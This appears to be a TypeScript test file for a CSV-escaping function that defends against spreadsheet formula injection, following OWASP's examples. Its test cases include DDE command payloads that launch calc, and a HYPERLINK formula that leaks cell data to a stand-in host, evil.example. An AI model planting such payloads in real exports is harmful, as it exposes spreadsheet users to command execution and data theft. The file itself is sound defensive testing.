// CSV for spreadsheets (OWASP CSV injection): a formula may start at the beginning of a cell or after any separator a
// spreadsheet might split the cell on (';' in many European locales, ',' in others, a tab or a line break), so each of
// those starts is neutralised; the cell is quoted whenever it holds a separator, so in a comma-separated reading it
// stays one cell.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { csvField, csvLine } from './csv.ts';

test('a formula after a semicolon, comma, tab or line break inside a cell is neutralised too', () => {
  const cases: [string, string][] = [
    ['a;=1+1', `"a;'=1+1"`],
    ['a,=1+1', `"a,'=1+1"`],
    ['a; =1+1', `"a;' =1+1"`],
    ['a;+1+1', `"a;'+1+1"`],
    ['a;@SUM(A1:A9)', `"a;'@SUM(A1:A9)"`],
    ['a;-2+3+cmd|\' /C calc\'!A0', `"a;'-2+3+cmd|' /C calc'!A0"`],
    ['a\t=1+1', `"a\t'=1+1"`],
    ['a\n=1+1', `"a\n'=1+1"`],
    ['a\r\n=1+1', `"a\r\n'=1+1"`],
    ['a;"=1+1', `"a;'""=1+1"`],
    ['a;＝1+1', `"a;'＝1+1"`],
  ];
  for (const [cell, expected] of cases) assert.equal(csvField(cell), expected, JSON.stringify(cell));
});

test("OWASP's CSV injection examples", () => {
  const cases: [string, string][] = [
    ['=1+2";=1+2', `"'=1+2"";'=1+2"`],
    [`=1+2'" ;,=1+2`, `"'=1+2'"" ;,'=1+2"`],
    ["=cmd|' /C calc'!A0", `'=cmd|' /C calc'!A0`],
    ["-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`],
    ['\t=1+1', `"'\t'=1+1"`],
    ['\r=1+1', `"'\r'=1+1"`],
  ];
  for (const [cell, expected] of cases) assert.equal(csvField(cell), expected, JSON.stringify(cell));
});

test('genuine values stay readable: negative numbers as they are, phone numbers as text, separators in prose untouched', () => {
  const cases: [unknown, string][] = [
    ['-3.5', '-3.5'], // a spreadsheet reads it as the number it is: nothing to run
    ['-12', '-12'],
    [-3.5, '-3.5'],
    ['1;-2', '"1;-2"'],
    ['+44 7700 900123', "'+44 7700 900123"], // shown as text, + and spaces kept (unprefixed, a spreadsheet makes it a formula)
    ['+447700900123', "'+447700900123"], // text, so the + and the leading digits are not lost to a number
    ['Ring 0113 496 0000 or +44 7700 900123', 'Ring 0113 496 0000 or +44 7700 900123'],
    ['Mobile; +44 7700 900123', `"Mobile;' +44 7700 900123"`],
    ['12, Moor Road', '"12, Moor Road"'],
    ['Damp in bathroom; mould on ceiling', '"Damp in bathroom; mould on ceiling"'],
    ['- kitchen tap', "'- kitchen tap"],
    ['-1e5', "'-1e5"],
    ['a=b;c=d', '"a=b;c=d"'],
    ["O'Neill", "O'Neill"],
    ['', ''],
    [null, ''],
  ];
  for (const [cell, expected] of cases) assert.equal(csvField(cell), expected, JSON.stringify(cell));
});

test('a line of cells', () => {
  assert.equal(csvLine(['Flat 1', 'a;=1+1', -2, '-2']), `Flat 1,"a;'=1+1",-2,-2\r\n`);
});
